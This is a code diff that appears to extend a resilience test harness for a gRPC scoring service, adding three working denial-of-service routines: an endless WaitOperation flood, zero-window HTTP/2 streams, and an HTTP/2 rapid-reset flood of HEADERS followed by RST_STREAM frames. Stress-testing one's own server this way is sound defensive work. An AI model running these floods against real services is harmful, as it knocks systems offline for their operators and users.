@@ -3,8 +3,10 @@
 Floods of frames that gRPC's own core turns down are not among them.
 """
 
+import asyncio
 import contextlib
 import socket
+import struct
 import threading
 import zlib
 from collections.abc import Callable, Iterator
@@ -13,9 +15,11 @@ from dataclasses import dataclass
 from functools import partial
 from typing import Any
 
+import grpc
+import grpc.aio
 import http2
 import wire
-from acpc.v1 import scoring_service_pb2
+from acpc.v1 import diagnostic_service_pb2, scoring_service_pb2
 from google.longrunning import operations_pb2
 from google.protobuf.message import Message
 
@@ -125,6 +129,68 @@ def scrape_connections(target: Target) -> Iterator[None]:
         yield
 
 
+@contextmanager
+def busy_waits(target: Target) -> Iterator[None]:
+    """1,000 WaitOperation calls that return at once, and are asked again without end."""
+    request = operations_pb2.WaitOperationRequest(name=target.operation, timeout={})
+    over = threading.Event()
+
+    async def attack() -> None:
+        async with grpc.aio.insecure_channel(target.address) as channel:
+            ask = channel.unary_unary("/google.longrunning.Operations/WaitOperation")
+
+            async def again() -> None:
+                while not over.is_set():
+                    with contextlib.suppress(grpc.RpcError):
+                        await ask(request.SerializeToString())
+
+            await asyncio.gather(*(again() for _ in range(1000)))
+
+    thread = threading.Thread(target=lambda: asyncio.run(attack()))
+    thread.start()
+    try:
+        yield
+    finally:
+        over.set()
+        thread.join()
+
+
+@contextmanager
+def unread_streams(target: Target) -> Iterator[None]:
+    """32 ComparePairs streams of two pairs each whose answers are given no room to be sent."""
+    request = diagnostic_service_pb2.ComparePairsRequest(pair_id="unread", pair=wire.pair())
+    body = http2.message(request.SerializeToString()) * 2
+    with http2.Connection(target.address, window=0) as connection:
+        for _ in range(32):
+            connection.body(connection.call("/acpc.v1.DiagnosticService/ComparePairs"), body)
+        yield
+
+
+@contextmanager
+def rapid_reset(target: Target) -> Iterator[None]:
+    """Calls that are reset as soon as they are made, as fast as they can be sent."""
+    over, block = threading.Event(), http2.request_headers(PAIR)
+    reset = struct.pack(">I", http2.CANCEL)
+
+    def run(connection: http2.Connection) -> None:
+        with contextlib.suppress(OSError):  # the server closes the connection
+            while not over.is_set():
+                for number in [connection.stream() for _ in range(100)]:
+                    connection.send(
+                        http2.frame(http2.HEADERS, http2.END_HEADERS, number, block)
+                        + http2.frame(http2.RST_STREAM, 0, number, reset)
+                    )
+
+    with http2.Connection(target.address) as connection:
+        thread = threading.Thread(target=run, args=(connection,))
+        thread.start()
+        try:
+            yield
+        finally:
+            over.set()
+            thread.join()
+
+
 ATTACKS: dict[str, Attack] = {
     "half_open_unary": partial(half_open, path=PAIR, count=88),
     "idle_Plan": partial(half_open, path="/acpc.v1.DiagnosticService/Plan", count=32),
@@ -145,4 +211,7 @@ ATTACKS: dict[str, Attack] = {
     "short_bodies": short_bodies,
     "gzip_bombs": gzip_bombs,
     "scrape_connections": scrape_connections,
+    "busy_waits": busy_waits,
+    "unread_streams": unread_streams,
+    "rapid_reset": rapid_reset,
 }  # fmt: skip
